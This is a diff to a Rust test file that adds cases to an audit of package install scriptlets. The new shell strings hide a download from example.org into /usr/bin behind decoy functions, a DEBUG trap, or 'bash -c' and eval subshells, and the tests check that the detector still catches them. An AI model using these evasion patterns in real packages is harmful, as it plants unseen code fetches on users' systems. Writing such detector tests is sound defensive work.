@@ -122,6 +122,11 @@ fn the_network_program_itself_or_a_function_that_downloads_is_still_caught() {
         // `exit` at the top level ends that), so the scriptlet runs the program.
         "post_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\nreturn 0\nhttps() { :; }\n",
         "post_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\ntrue && exit 0\nhttps() { :; }\n",
+        // A DEBUG trap under extdebug can skip commands (a definition too, taken as possible).
+        "shopt -s extdebug\ntrap '[[ $BASH_COMMAND == *https* ]] && false' DEBUG\nhttps() { :; }\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
+        // Another process has none of this shell's functions.
+        "https() { :; }\npost_install() {\n  bash -c 'https --download https://example.org/p -o /usr/bin/p'\n}\n",
+        "https() { :; }\npost_install() {\n  sh -c 'eval \"https --download https://example.org/p -o /usr/bin/p\"'\n}\n",
         // Code the audit cannot read runs before the call and may unset the decoy.
         "https() { :; }\n. /etc/demo/settings\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
         "https() { :; }\npost_install() {\n  eval \"$(cat /etc/demo/prelude)\"\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
